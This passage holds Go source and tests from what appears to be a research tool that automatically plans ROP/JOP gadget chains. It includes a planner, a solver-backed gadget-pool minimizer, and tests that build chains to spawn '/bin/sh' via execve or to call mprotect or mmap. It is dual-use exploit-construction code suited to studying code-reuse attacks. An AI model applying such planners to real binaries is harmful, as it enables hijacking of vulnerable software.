	// Entirely payload-determined.
	if len(vc.regs) == 0 {
		switch spec.Kind {
		case SpecArbitrary:
			// Must be invertible so any target is reachable.
			if name, _, ok := invertForm(e); ok && symex.IsAttackerVar(name) {
				return provideResult{demands: []SlotDemand{{Expr: e, Spec: spec}}}, true
			}
			return provideResult{}, false
		default:
			// Constant or pointer target: defer Eq(e, target) to the solver.
			return provideResult{demands: []SlotDemand{{Expr: e, Spec: spec}}}, true
		}
	}

	// Single-register invertible transform: regress the spec upstream.
	if len(vc.regs) == 1 && len(vc.inputs) == 0 {
		name, inverse, ok := invertForm(e)
		if !ok {
			return provideResult{}, false
		}
		src, ok := symex.IsRegVar(name)
		if !ok || symex.IsSPVar(name) {
			return provideResult{}, false
		}
		switch spec.Kind {
		case SpecConst:
			return provideResult{entryReqs: []regReq{{src, ConstSpec(inverse(spec.Value))}}}, true
		case SpecArbitrary:
			return provideResult{entryReqs: []regReq{{src, ArbitrarySpec()}}}, true
		case SpecPointer:
			// Only identity copies can carry a pointer whose concrete value
			// is unknown until concretization.
			if e.Kind == expr.KindVar {
				return provideResult{entryReqs: []regReq{{src, spec}}}, true
			}
			return provideResult{}, false
		}
	}

	// Mixed register/input expressions: out of the planner's fragment.
	return provideResult{}, false
}

// stepEntryReqs computes the requirements a gadget instance imposes by
// itself: pre-conditions from conditional jumps passed through, and control
// of the jump-target register for indirect-ending gadgets. The bool reports
// whether the gadget is usable as a plan step at all.
func stepEntryReqs(b *expr.Builder, g *gadget.Gadget) ([]regReq, bool) {
	var reqs []regReq
	seen := make(map[isa.Reg]bool)

	// Reads below the gadget's entry rsp hit victim stack the payload does
	// not cover; such gadgets cannot be driven.
	for off := range g.Effect.Inputs {
		if off < 0 {
			return nil, false
		}
	}

	for _, cond := range g.Effect.Conds {
		vc := classifyVars(cond)
		if vc.other {
			return nil, false // depends on unmodeled flag bits
		}
		// Every entry register the condition mentions must be controllable;
		// the condition itself is re-instantiated and solved during
		// concretization.
		for _, r := range vc.regs {
			if !seen[r] {
				seen[r] = true
				reqs = append(reqs, regReq{r, ArbitrarySpec()})
			}
		}
	}

	// Controlled-memory dereferences require every register in the address
	// expression to be attacker-settable (the address is pinned to scratch
	// payload memory at concretization).
	for _, acc := range g.Effect.MemReads {
		vc := classifyVars(acc.Addr)
		if vc.other {
			return nil, false
		}
		for _, r := range vc.regs {
			if !seen[r] {
				seen[r] = true
				reqs = append(reqs, regReq{r, ArbitrarySpec()})
			}
		}
	}
	for _, acc := range g.Effect.MemWrites {
		vc := classifyVars(acc.Addr)
		if vc.other {
			return nil, false
		}
		for _, r := range vc.regs {
			if !seen[r] {
				seen[r] = true
				reqs = append(reqs, regReq{r, ArbitrarySpec()})
			}
		}
	}

	switch g.Effect.End {
	case symex.EndJmpInd, symex.EndCallInd:
		rip := g.Effect.NextRIP
		vc := classifyVars(rip)
		if vc.other {
			return nil, false
		}
		switch {
		case len(vc.regs) == 0:
			// Payload-determined target: solved at concretization.
		case len(vc.regs) == 1 && len(vc.inputs) == 0:
			if _, _, ok := invertForm(rip); !ok {
				return nil, false
			}
			r := vc.regs[0]
			if !seen[r] {
				reqs = append(reqs, regReq{r, ArbitrarySpec()})
			}
		default:
			return nil, false
		}
	}
	return reqs, true
}

// clobbers reports whether step s (a gadget) overwrites reg.
func clobbers(g *gadget.Gadget, reg isa.Reg) bool {
	for _, r := range g.ClobRegs {
		if r == reg {
			return true
		}
	}
	return false
}

// DebugProvides exposes provides for diagnostics and tests.
func DebugProvides(b *expr.Builder, g *gadget.Gadget, r isa.Reg, spec ValueSpec) (int, bool) {
	pr, ok := provides(b, g, r, spec)
	return len(pr.entryReqs) + len(pr.demands), ok
}

// DebugStepReqs exposes stepEntryReqs for diagnostics and tests.
func DebugStepReqs(b *expr.Builder, g *gadget.Gadget) (int, bool) {
	reqs, ok := stepEntryReqs(b, g)
	return len(reqs), ok
}
