package planner

import (
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

func buildPool(src string) (*gadget.Pool, error) {
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		return nil, err
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{
		Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code,
	})
	pool := gadget.Extract(bin, gadget.Options{})
	min, _ := subsume.Minimize(pool, subsume.Options{})
	return min, nil
}

func poolFrom(t *testing.T, src string) *gadget.Pool {
	t.Helper()
	pool, err := buildPool(src)
	if err != nil {
		t.Fatal(err)
	}
	return pool
}

const classicGadgets = `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    pop r10
    ret
    syscall
`

func TestSearchFindsExecvePlan(t *testing.T) {
	pool := poolFrom(t, classicGadgets)
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 1})
	if len(res.Plans) == 0 {
		t.Fatalf("no plans found (expanded %d, generated %d)", res.Expanded, res.Generated)
	}
	p := res.Plans[0]
	if !p.Complete() {
		t.Fatal("returned plan incomplete")
	}
	chain := p.Chain()
	if len(chain) < 5 {
		t.Errorf("chain too short: %v", p)
	}
	// The last gadget must be the syscall.
	if chain[len(chain)-1].JmpType != gadget.TypeSyscall {
		t.Errorf("chain does not end in syscall: %v", p)
	}
	// Causal links must cover all four goal registers.
	covered := map[isa.Reg]bool{}
	for _, l := range p.Links {
		covered[l.Reg] = true
	}
	for _, r := range []isa.Reg{isa.RAX, isa.RDI, isa.RSI, isa.RDX} {
		if !covered[r] {
			t.Errorf("no causal link for %s", r)
		}
	}
}

func TestSearchMultipleGoals(t *testing.T) {
	pool := poolFrom(t, classicGadgets)
	for _, goal := range Goals() {
		res := Search(pool, goal, Options{MaxPlans: 1})
		if len(res.Plans) == 0 {
			t.Errorf("goal %s: no plans", goal.Name)
		}
	}
}

func TestSearchFailsWithoutProducers(t *testing.T) {
	// No gadget sets rax: execve unreachable.
	pool := poolFrom(t, "pop rdi; ret; pop rsi; ret; pop rdx; ret; syscall")
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 1})
	if len(res.Plans) != 0 {
		t.Errorf("found impossible plan: %v", res.Plans[0])
	}
}

func TestSearchFailsWithoutSyscall(t *testing.T) {
	pool := poolFrom(t, classicGadgets[:strings.LastIndex(classicGadgets, "syscall")])
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 1})
	if len(res.Plans) != 0 {
		t.Error("found plan without syscall gadget")
	}
}

func TestSearchDiversePlans(t *testing.T) {
	// Two distinct ways to set rax.
	src := classicGadgets + `
    mov rax, rbx
    ret
    pop rbx
    ret
`
	pool := poolFrom(t, src)
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 6})
	if len(res.Plans) < 2 {
		t.Fatalf("expected multiple distinct plans, got %d", len(res.Plans))
	}
	sigs := map[string]bool{}
	for _, p := range res.Plans {
		if sigs[p.Signature()] {
			t.Error("duplicate plan signature returned")
		}
		sigs[p.Signature()] = true
	}
}

func TestCopyGadgetRegression(t *testing.T) {
	// rax settable only through rbx.
	src := `
    mov rax, rbx
    ret
    pop rbx
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    syscall
`
	pool := poolFrom(t, src)
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 1})
	if len(res.Plans) == 0 {
		t.Fatal("no plan via copy regression")
	}
	s := res.Plans[0].String()
	if !strings.Contains(s, "mov rax, rbx") || !strings.Contains(s, "pop rbx") {
		t.Errorf("plan does not use the copy chain: %s", s)
	}
	// pop rbx must come before mov rax, rbx in the linearization.
	if strings.Index(s, "pop rbx") > strings.Index(s, "mov rax, rbx") {
		t.Errorf("copy source ordered after copy: %s", s)
	}
}

func TestArithmeticRegression(t *testing.T) {
	// rax reachable only via inc: pop rax sets, but say rax = rbx + 1.
	src := `
    lea rax, [rbx+1]
    ret
    pop rbx
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    syscall
`
	pool := poolFrom(t, src)
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 1})
	if len(res.Plans) == 0 {
		t.Fatal("no plan via arithmetic regression")
	}
}

func TestValidateCallbackFilters(t *testing.T) {
	// A pool with at least two distinct complete plans (two rax setters).
	pool := poolFrom(t, classicGadgets+"\n    mov rax, rbx\n    ret\n    pop rbx\n    ret\n")
	calls := 0
	res := Search(pool, ExecveGoal(), Options{
		MaxPlans: 1,
		Validate: func(p *Plan) bool {
			calls++
			return calls > 1 // reject the first complete plan
		},
	})
	if res.Rejected != 1 {
		t.Errorf("rejected = %d, want 1", res.Rejected)
	}
	if len(res.Plans) != 1 {
		t.Errorf("plans = %d, want 1 (a later plan must pass)", len(res.Plans))
	}
}

func TestPlanOrderingPrimitives(t *testing.T) {
	p := &Plan{Steps: []Step{{ID: 0}, {ID: 1}, {ID: 2}}}
	if !p.addOrder(0, 1) || !p.addOrder(1, 2) {
		t.Fatal("basic ordering failed")
	}
	if !p.orderedBefore(0, 2) {
		t.Error("transitive order not seen")
	}
	if p.addOrder(2, 0) {
		t.Error("cycle accepted")
	}
	lin := p.Linearize()
	if len(lin) != 3 || lin[0] != 0 {
		t.Errorf("linearize = %v", lin)
	}
}

func TestSpecEquality(t *testing.T) {
	if !equalSpec(ConstSpec(5), ConstSpec(5)) {
		t.Error("const spec equality")
	}
	if equalSpec(ConstSpec(5), ConstSpec(6)) {
		t.Error("const spec inequality")
	}
	if !equalSpec(PointerSpec([]byte("a")), PointerSpec([]byte("a"))) {
		t.Error("pointer spec equality")
	}
	if equalSpec(PointerSpec([]byte("a")), ConstSpec(0)) {
		t.Error("cross-kind equality")
	}
	if !equalSpec(ArbitrarySpec(), ArbitrarySpec()) {
		t.Error("arbitrary spec equality")
	}
}

func TestGoalDefinitions(t *testing.T) {
	g := ExecveGoal()
	if g.Regs[isa.RAX].Value != 59 {
		t.Error("execve rax != 59")
	}
	if string(g.Regs[isa.RDI].Data) != "/bin/sh\x00" {
		t.Errorf("execve path = %q", g.Regs[isa.RDI].Data)
	}
	if MprotectGoal(0x1000).Regs[isa.RAX].Value != 10 {
		t.Error("mprotect rax != 10")
	}
	if MmapGoal().Regs[isa.RAX].Value != 9 {
		t.Error("mmap rax != 9")
	}
}
