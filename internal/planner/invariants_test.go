package planner

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// TestPlanInvariants checks structural properties of every plan the search
// returns: consistent partial order, causal links respecting it, the goal
// step last, and no syscall gadgets mid-chain.
func TestPlanInvariants(t *testing.T) {
	pool := poolFrom(t, classicGadgets+`
    mov rax, rbx
    ret
    pop rbx
    ret
    pop rbp
    jmp rax
`)
	for _, goal := range Goals() {
		res := Search(pool, goal, Options{MaxPlans: 10})
		for _, p := range res.Plans {
			if !p.Complete() {
				t.Fatalf("incomplete plan returned")
			}
			lin := p.Linearize()
			if len(lin) != len(p.Steps) {
				t.Fatalf("linearization dropped steps: %d vs %d (cyclic order?)",
					len(lin), len(p.Steps))
			}
			pos := make(map[int]int, len(lin))
			for i, id := range lin {
				pos[id] = i
			}
			// Start first, goal last.
			if lin[0] != 0 {
				t.Errorf("start not first: %v", lin)
			}
			if lin[len(lin)-1] != p.GoalStep() {
				t.Errorf("goal not last: %v", lin)
			}
			// Order edges respected.
			for _, o := range p.Order {
				if pos[o[0]] >= pos[o[1]] {
					t.Errorf("order (%d,%d) violated in %v", o[0], o[1], lin)
				}
			}
			// Causal links: producer strictly before consumer, and no step
			// between them clobbers the linked register.
			for _, l := range p.Links {
				if pos[l.Producer] >= pos[l.Consumer] {
					t.Errorf("link %v out of order", l)
				}
				for i := pos[l.Producer] + 1; i < pos[l.Consumer]; i++ {
					g := p.step(lin[i]).G
					if g != nil && clobbers(g, l.Reg) {
						t.Errorf("link on %s broken by intermediate %s", l.Reg, g)
					}
				}
			}
			// No mid-chain syscall gadgets.
			chain := p.Chain()
			for i, g := range chain {
				if g.JmpType.String() == "Syscall" && i != len(chain)-1 {
					t.Errorf("syscall gadget mid-chain at %d", i)
				}
			}
		}
	}
}

func TestSearchDeterminism(t *testing.T) {
	pool := poolFrom(t, classicGadgets)
	sig := func() []string {
		res := Search(pool, ExecveGoal(), Options{MaxPlans: 5})
		var out []string
		for _, p := range res.Plans {
			out = append(out, p.Signature())
		}
		return out
	}
	a, b := sig(), sig()
	if len(a) != len(b) {
		t.Fatalf("plan counts differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Errorf("plan %d differs between runs", i)
		}
	}
}

func TestLinearizeRespectsThreatOrdering(t *testing.T) {
	// Two rax setters (const 59 goal and arbitrary for JOP target): the
	// ordering must prevent the goal value from being clobbered.
	src := `
    pop rax
    ret
    pop rdi
    jmp rax
    pop rsi
    ret
    pop rdx
    ret
    syscall
`
	pool := poolFrom(t, src)
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 3})
	if len(res.Plans) == 0 {
		t.Fatal("no plans")
	}
	for _, p := range res.Plans {
		// Find the rax=59 link and ensure nothing clobbers rax after its
		// producer up to the goal.
		lin := p.Linearize()
		pos := map[int]int{}
		for i, id := range lin {
			pos[id] = i
		}
		for _, l := range p.Links {
			if l.Reg == isa.RAX && l.Consumer == p.GoalStep() && l.Spec.Kind == SpecConst {
				for i := pos[l.Producer] + 1; i < pos[l.Consumer]; i++ {
					if g := p.step(lin[i]).G; g != nil && clobbers(g, isa.RAX) {
						t.Errorf("rax=59 clobbered mid-chain in %s", p)
					}
				}
			}
		}
	}
}

func TestTimeoutReturnsGracefully(t *testing.T) {
	pool := poolFrom(t, classicGadgets)
	res := Search(pool, ExecveGoal(), Options{MaxPlans: 10000, MaxNodes: 1 << 30, Timeout: 1})
	// With a 1ns timeout the search must stop immediately and cleanly.
	if !res.TimedOut && res.Expanded > 512 {
		t.Errorf("timeout ignored: expanded=%d", res.Expanded)
	}
}
