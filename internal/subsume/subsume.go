// Package subsume implements Gadget-Planner's subsumption testing stage
// (paper Section IV-C): the gadget pool is winnowed to one representative
// per semantic equivalence class by checking, for gadget pairs, the paper's
// constraint (1):
//
//	(pre2 -> pre1) && (post1 = post2)
//
// in which case g2 is redundant and removed (g1 has equal effect on a looser
// pre-condition).
//
// A solver query per pair would be quadratic and slow, so candidates are
// first grouped by a structural key (termination, stack delta, clobber set)
// and then by a semantic fingerprint (effects evaluated on deterministic
// pseudo-random environments); only gadgets agreeing on every fingerprint
// reach the SAT-backed equality and implication checks. Structurally
// identical effects (pointer-equal thanks to hash-consing) short-circuit the
// solver entirely.
//
// Buckets are independent, so they are dispatched to Options.Parallelism
// workers, each with its own solver. Query formulas are built in a fresh
// scratch builder per bucket (pool expressions are imported into it), which
// keeps the pool's builder strictly read-only during minimization and makes
// every bucket's verdicts independent of worker scheduling — the minimized
// pool is byte-identical at any worker count.
package subsume

import (
	"fmt"
	"hash/fnv"
	"runtime"
	"sort"
	"sync"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/solver"
)

// Options tune the minimization.
type Options struct {
	// Fingerprints is how many random environments to evaluate per gadget
	// (more = fewer false bucket collisions). Default 4.
	Fingerprints int
	// MaxConflicts bounds each solver query. Default 4096 (Unknown results
	// conservatively keep both gadgets).
	MaxConflicts int64
	// Parallelism is how many workers test buckets concurrently.
	// 0 selects runtime.GOMAXPROCS(0); 1 runs single-threaded. The result
	// is identical at every worker count.
	Parallelism int
	// DisableTriage turns off the solver's concrete-refutation tiers
	// (solver.Options.DisableTriage), forcing every non-cached verdict
	// query through the bit-blaster. The minimized pool is identical
	// either way; the switch exists for A/B benchmarking.
	DisableTriage bool
}

// Fingerprint renders the options' semantic fields canonically (defaults
// applied) for content-addressed artifact keys. Parallelism is excluded —
// minimized pools are identical at every worker count. DisableTriage is
// included even though the pool is triage-invariant: the Stats counters
// travel with the cached artifact and do differ between triage modes.
func (o Options) Fingerprint() string {
	o = o.withDefaults()
	return fmt.Sprintf("fp=%d,conf=%d,triage=%t",
		o.Fingerprints, o.MaxConflicts, !o.DisableTriage)
}

func (o Options) withDefaults() Options {
	if o.Fingerprints == 0 {
		o.Fingerprints = 4
	}
	if o.MaxConflicts == 0 {
		o.MaxConflicts = 4096
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
	}
	return o
}

// Stats reports what minimization did.
type Stats struct {
	Before         int
	After          int
	RemovedIdent   int   // removed via structural (pointer) identity
	RemovedProved  int   // removed via solver-proved subsumption
	SolverQueries  int64 // logical SAT queries issued (triage-served included)
	CacheHits      int64 // queries answered by the solver verdict cache (T3)
	EvalRefuted    int64 // queries refuted by concrete screening (T1)
	WitnessRefuted int64 // queries refuted by witness replay (T2)
	Blasted        int64 // queries that reached the bit-blaster (T4)
	Buckets        int   // fingerprint buckets examined
}

// TriageShare is the fraction of solver queries resolved without
// bit-blasting (triage tiers T1–T3 plus constant folding).
func (s Stats) TriageShare() float64 {
	if s.SolverQueries == 0 {
		return 0
	}
	return 1 - float64(s.Blasted)/float64(s.SolverQueries)
}

// ReductionFactor returns Before/After (the paper reports an average 2.97x).
func (s Stats) ReductionFactor() float64 {
	if s.After == 0 {
		return 0
	}
	return float64(s.Before) / float64(s.After)
}

// String renders a one-line summary.
func (s Stats) String() string {
	return fmt.Sprintf("subsume: %d -> %d (%.2fx; ident=%d proved=%d queries=%d eval=%d wit=%d cached=%d blasted=%d)",
		s.Before, s.After, s.ReductionFactor(), s.RemovedIdent, s.RemovedProved,
		s.SolverQueries, s.EvalRefuted, s.WitnessRefuted, s.CacheHits, s.Blasted)
}

// bucketStats is one bucket's contribution to the aggregate Stats.
type bucketStats struct {
	removedIdent  int
	removedProved int
}

// Minimize returns a new pool containing one gadget per equivalence class,
// preferring gadgets with weaker pre-conditions, then fewer instructions.
// The input pool's builder is not mutated.
func Minimize(pool *gadget.Pool, opts Options) (*gadget.Pool, Stats) {
	opts = opts.withDefaults()
	stats := Stats{Before: pool.Size()}

	// Group by structural key, then sub-bucket by semantic fingerprint.
	// Bucket contents follow pool order, so each bucket is deterministic;
	// the bucket list order is not, but aggregation below is order-free.
	groups := make(map[string][]*gadget.Gadget)
	for _, g := range pool.Gadgets {
		groups[structuralKey(g)] = append(groups[structuralKey(g)], g)
	}
	var buckets [][]*gadget.Gadget
	for _, group := range groups {
		byFp := make(map[uint64][]*gadget.Gadget)
		for _, g := range group {
			fp := fingerprint(g, opts.Fingerprints)
			byFp[fp] = append(byFp[fp], g)
		}
		for _, bucket := range byFp {
			buckets = append(buckets, bucket)
		}
	}
	stats.Buckets = len(buckets)

	kept := make([][]*gadget.Gadget, len(buckets))
	bstats := make([]bucketStats, len(buckets))
	workers := opts.Parallelism
	if workers > len(buckets) {
		workers = len(buckets)
	}
	solverOpts := solver.Options{MaxConflicts: opts.MaxConflicts, DisableTriage: opts.DisableTriage}
	solvers := make([]*solver.Solver, 0, workers)
	if workers <= 1 {
		s := solver.New(solverOpts)
		solvers = append(solvers, s)
		for i, bucket := range buckets {
			kept[i] = minimizeBucket(s, bucket, &bstats[i])
		}
	} else {
		next := make(chan int)
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			s := solver.New(solverOpts)
			solvers = append(solvers, s)
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					kept[i] = minimizeBucket(s, buckets[i], &bstats[i])
				}
			}()
		}
		for i := range buckets {
			next <- i
		}
		close(next)
		wg.Wait()
	}

	for _, bs := range bstats {
		stats.RemovedIdent += bs.removedIdent
		stats.RemovedProved += bs.removedProved
	}
	for _, s := range solvers {
		stats.SolverQueries += s.Queries
		stats.CacheHits += s.CacheHits
		stats.EvalRefuted += s.EvalRefuted
		stats.WitnessRefuted += s.WitnessRefuted
		stats.Blasted += s.Blasted
	}

	out := &gadget.Pool{
		Builder: pool.Builder,
		ISA:     pool.ISA,
		Stats:   pool.Stats,
	}
	for _, ks := range kept {
		out.Gadgets = append(out.Gadgets, ks...)
	}
	stats.After = out.Size()
	sortPool(out)
	return out, stats
}

// sortPool orders gadgets by location, renumbers IDs, and rebuilds the
// register and syscall indexes in that order, so the output pool is fully
// deterministic regardless of bucket processing order.
func sortPool(p *gadget.Pool) {
	sort.Slice(p.Gadgets, func(i, j int) bool { return gadgetLess(p.Gadgets[i], p.Gadgets[j]) })
	p.Syscalls = nil
	p.ByReg = make(map[isa.Reg][]*gadget.Gadget)
	for i, g := range p.Gadgets {
		g.ID = i
		if g.JmpType == gadget.TypeSyscall {
			p.Syscalls = append(p.Syscalls, g)
		}
		for _, r := range g.ClobRegs {
			p.ByReg[r] = append(p.ByReg[r], g)
		}
	}
}

// gadgetLess is a total order on distinct gadgets (the extraction-time ID
// breaks any remaining tie), so sorts over them are deterministic.
func gadgetLess(a, b *gadget.Gadget) bool {
	if a.Location != b.Location {
		return a.Location < b.Location
	}
	if a.NumInsts() != b.NumInsts() {
		return a.NumInsts() < b.NumInsts()
	}
	if a.Len != b.Len {
		return a.Len < b.Len
	}
	return a.ID < b.ID
}

// minimizeBucket removes subsumed gadgets within one fingerprint bucket.
// Queries are built in a bucket-local scratch builder so verdicts depend
// only on the bucket's content, never on what the worker processed before.
func minimizeBucket(s *solver.Solver, bucket []*gadget.Gadget, bs *bucketStats) []*gadget.Gadget {
	// Prefer weaker pre-conditions (fewer conjuncts), then shorter gadgets,
	// so the survivor of each class is the cheapest to use.
	sort.Slice(bucket, func(i, j int) bool {
		ci, cj := len(bucket[i].Effect.Conds), len(bucket[j].Effect.Conds)
		if ci != cj {
			return ci < cj
		}
		return gadgetLess(bucket[i], bucket[j])
	})

	scratch := expr.NewBuilder()
	imp := expr.NewImporter(scratch)

	var kept []*gadget.Gadget
	for _, cand := range bucket {
		subsumed := false
		for _, k := range kept {
			ident, eq := equalPost(scratch, imp, s, k, cand)
			if !eq {
				continue
			}
			// Posts equal; k wins if cand's pre-condition implies k's.
			if preImplies(scratch, imp, s, cand, k) {
				subsumed = true
				if ident {
					bs.removedIdent++
				} else {
					bs.removedProved++
				}
				break
			}
		}
		if !subsumed {
			kept = append(kept, cand)
		}
	}
	return kept
}

// equalPost decides post1 == post2. The bool pair is (structurally
// identical, equal). Structural comparisons use pool-node pointer equality;
// residual proof obligations are imported into the scratch builder for the
// solver.
func equalPost(scratch *expr.Builder, imp *expr.Importer, s *solver.Solver, g1, g2 *gadget.Gadget) (bool, bool) {
	e1, e2 := g1.Effect, g2.Effect
	if e1.End != e2.End || e1.StackDelta != e2.StackDelta {
		return false, false
	}
	if len(e1.StackWrites) != len(e2.StackWrites) {
		return false, false
	}

	ident := true
	var pending [][2]*expr.Node
	if len(e1.Regs) != len(e2.Regs) {
		return false, false
	}
	for r := range e1.Regs {
		if e1.Regs[r] == e2.Regs[r] {
			continue
		}
		ident = false
		pending = append(pending, [2]*expr.Node{e1.Regs[r], e2.Regs[r]})
	}
	switch {
	case e1.NextRIP == nil && e2.NextRIP == nil:
	case e1.NextRIP == nil || e2.NextRIP == nil:
		return false, false
	case e1.NextRIP != e2.NextRIP:
		ident = false
		pending = append(pending, [2]*expr.Node{e1.NextRIP, e2.NextRIP})
	}
	for off, w1 := range e1.StackWrites {
		w2, ok := e2.StackWrites[off]
		if !ok || w1.Size != w2.Size {
			return false, false
		}
		if w1.Val != w2.Val {
			ident = false
			pending = append(pending, [2]*expr.Node{w1.Val, w2.Val})
		}
	}
	// Controlled-memory accesses must match structurally (conservative).
	if len(e1.MemReads) != len(e2.MemReads) || len(e1.MemWrites) != len(e2.MemWrites) {
		return false, false
	}
	for i := range e1.MemReads {
		if e1.MemReads[i].Addr != e2.MemReads[i].Addr || e1.MemReads[i].Size != e2.MemReads[i].Size {
			return false, false
		}
	}
	for i := range e1.MemWrites {
		if e1.MemWrites[i].Addr != e2.MemWrites[i].Addr ||
			e1.MemWrites[i].Val != e2.MemWrites[i].Val ||
			e1.MemWrites[i].Size != e2.MemWrites[i].Size {
			return false, false
		}
	}
	if ident {
		return true, true
	}
	for _, p := range pending {
		if !s.EquivalentBV(scratch, imp.Import(p[0]), imp.Import(p[1])) {
			return false, false
		}
	}
	return false, true
}

// preImplies reports whether g2's pre-condition entails g1's (so g1 is usable
// whenever g2 is).
func preImplies(scratch *expr.Builder, imp *expr.Importer, s *solver.Solver, g2, g1 *gadget.Gadget) bool {
	p1 := scratch.AndAll(imp.ImportAll(g1.Effect.Conds))
	p2 := scratch.AndAll(imp.ImportAll(g2.Effect.Conds))
	if p1 == p2 {
		return true
	}
	if v, ok := p1.IsBoolConst(); ok && v {
		return true // g1 unconditionally usable
	}
	return s.Implies(scratch, p2, p1)
}

// structuralKey groups gadgets that could possibly be equivalent.
func structuralKey(g *gadget.Gadget) string {
	key := fmt.Sprintf("%d|%d|%d|%d|%d|", g.Effect.End, g.Effect.StackDelta,
		len(g.Effect.StackWrites), len(g.Effect.MemReads), len(g.Effect.MemWrites))
	for _, r := range g.ClobRegs {
		key += r.String() + ","
	}
	return key
}

// fingerprint evaluates the gadget's post-condition on k deterministic
// pseudo-random environments and hashes the results. Equal effects always
// fingerprint equal; unequal effects collide only by (unlikely) chance,
// which the solver check then resolves.
func fingerprint(g *gadget.Gadget, k int) uint64 {
	h := fnv.New64a()
	eff := g.Effect
	var nodes []*expr.Node
	for r := range eff.Regs {
		nodes = append(nodes, eff.Regs[r])
	}
	if eff.NextRIP != nil {
		nodes = append(nodes, eff.NextRIP)
	}
	offs := make([]int64, 0, len(eff.StackWrites))
	for off := range eff.StackWrites {
		offs = append(offs, off)
	}
	sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
	for _, off := range offs {
		fmt.Fprintf(h, "w%d/%d:", off, eff.StackWrites[off].Size)
		nodes = append(nodes, eff.StackWrites[off].Val)
	}
	for _, a := range eff.MemReads {
		fmt.Fprintf(h, "mr%d:", a.Size)
		nodes = append(nodes, a.Addr)
	}
	for _, a := range eff.MemWrites {
		fmt.Fprintf(h, "mw%d:", a.Size)
		nodes = append(nodes, a.Addr, a.Val)
	}

	names := expr.Vars(nodes...)
	for round := 0; round < k; round++ {
		env := make(expr.Env, len(names))
		for _, n := range names {
			env[n] = detValue(n, uint64(round))
		}
		for _, node := range nodes {
			v, err := expr.Eval(node, env)
			if err != nil {
				v = 0xDEAD // unreachable: env binds all vars
			}
			var buf [8]byte
			for i := range buf {
				buf[i] = byte(v >> (8 * i))
			}
			h.Write(buf[:])
		}
	}
	return h.Sum64()
}

// detValue produces a deterministic pseudo-random value from a variable name
// and round number (splitmix64 over an FNV hash).
func detValue(name string, round uint64) uint64 {
	h := fnv.New64a()
	h.Write([]byte(name))
	z := h.Sum64() + (round+1)*0x9E3779B97F4A7C15
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}
