package subsume_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

// BenchmarkSubsumeParallel measures concurrent subsumption testing of the
// obfuscated netperf-sim pool at several worker counts, reporting speedup
// versus the single-worker baseline (~1.0 on one core).
func BenchmarkSubsumeParallel(b *testing.B) {
	bin, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), 42)
	if err != nil {
		b.Fatal(err)
	}
	pool := gadget.Extract(bin, gadget.Options{})

	// Best-of-three manual baseline (nested testing.Benchmark would
	// deadlock on the benchmark lock).
	baseline := time.Duration(1<<63 - 1)
	for i := 0; i < 3; i++ {
		start := time.Now()
		subsume.Minimize(pool, subsume.Options{Parallelism: 1})
		if d := time.Since(start); d < baseline {
			baseline = d
		}
	}

	for _, par := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("parallelism=%d", par), func(b *testing.B) {
			var after int
			for i := 0; i < b.N; i++ {
				min, _ := subsume.Minimize(pool, subsume.Options{Parallelism: par})
				after = min.Size()
			}
			if after == 0 || after >= pool.Size() {
				b.Fatalf("no reduction: %d -> %d", pool.Size(), after)
			}
			perOp := float64(b.Elapsed().Nanoseconds()) / float64(b.N)
			b.ReportMetric(float64(baseline.Nanoseconds())/perOp, "speedup-x")
		})
	}
}
