package subsume_test

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/experiments"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

// TestTriageDeterminism is the end-to-end acceptance check for solver
// triage: minimizing the obfuscated netperf-sim pool with triage enabled
// must produce a pool byte-identical to the triage-disabled reference, at
// every worker count.
func TestTriageDeterminism(t *testing.T) {
	bin, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	pool := gadget.Extract(bin, gadget.Options{})

	ref, refStats := subsume.Minimize(pool, subsume.Options{Parallelism: 1, DisableTriage: true})
	refSig := experiments.PoolSignature(ref)
	if refStats.EvalRefuted != 0 || refStats.WitnessRefuted != 0 {
		t.Fatalf("triage-disabled run used triage tiers: %+v", refStats)
	}

	for _, par := range []int{1, 2, 8} {
		min, stats := subsume.Minimize(pool, subsume.Options{Parallelism: par})
